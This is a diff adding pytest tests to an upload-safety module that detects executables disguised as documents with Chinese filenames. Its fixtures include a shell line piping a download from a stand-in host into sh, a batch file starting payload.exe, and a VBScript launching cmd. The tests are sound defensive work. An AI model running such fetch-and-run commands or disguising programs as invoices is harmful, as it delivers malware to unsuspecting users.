@@ -16,7 +16,9 @@ from parsers.safety import (
     Limits,
     check_image_size,
     check_member_name,
+    check_not_program,
     check_zip_package,
+    program_kind,
     sanitize_filename,
 )
 from tests.parsers.corpus import build_hostile
@@ -140,3 +142,40 @@ def test_image_size_caps():
 ])
 def test_sanitize_filename(name, safe):
     assert sanitize_filename(name) == safe
+
+
+# The first bytes of programs as their linkers write them: a PE (DOS stub, e_lfanew → "PE\0\0"),
+# a 64-bit ELF, a 64-bit Mach-O, a shell script, a batch file, a VBScript dropper.
+PE = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\x00" * 43 + b"\x80\x00\x00\x00"
+      + b"\x0e\x1f\xba\x0e\x00\xb4\t\xcd!\xb8\x01L\xcd!This program cannot be run in DOS mode.\r\r\n$"
+      + b"\x00" * 11 + b"PE\x00\x00\x64\x86" + b"\x00" * 200)
+PROGRAMS = {
+    "PE named 发票.pdf": (PE, "发票.pdf"),
+    "ELF named 对账单.jpg": (b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00", "对账单.jpg"),
+    "Mach-O named 说明.docx": (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00", "说明.docx"),
+    "shell script named 投诉.pdf": (b"#!/bin/sh\ncurl -s http://x.example/a | sh\n", "投诉.pdf"),
+    "batch file named 材料.doc": (b"@echo off\r\nstart /b payload.exe\r\n", "材料.doc"),
+    "VBScript named 截图.png": (b'Set s = CreateObject("WScript.Shell")\r\ns.Run "cmd"\r\n', "截图.png"),
+    "a .scr by its name": (b"\x00\x01whatever", "屏保.scr"),
+    "a double extension": (b"text", "发票.pdf.vbs"),
+}
+
+
+@pytest.mark.parametrize("name", PROGRAMS)
+def test_a_program_is_refused_whatever_it_is_called(name):
+    data, filename = PROGRAMS[name]
+    assert program_kind(data, filename) is not None
+    with pytest.raises(HostileInput, match="executable program"):
+        check_not_program(data, filename)
+
+
+@pytest.mark.parametrize("data, filename", [
+    (b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n", "发票.pdf"),
+    (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", "scan.jpg"),
+    (b"PK\x03\x04\x14\x00\x06\x00", "受理单.docx"),
+    (b"MZ is how the clerk signs: MZ 2026-12-01", "note.txt"),  # "MZ" text, no binary header
+    ("客户投诉：柜员态度差 #!".encode(), "投诉.txt"),
+    (b"", "empty.pdf"),
+])
+def test_documents_are_not_programs(data, filename):
+    assert program_kind(data, filename) is None
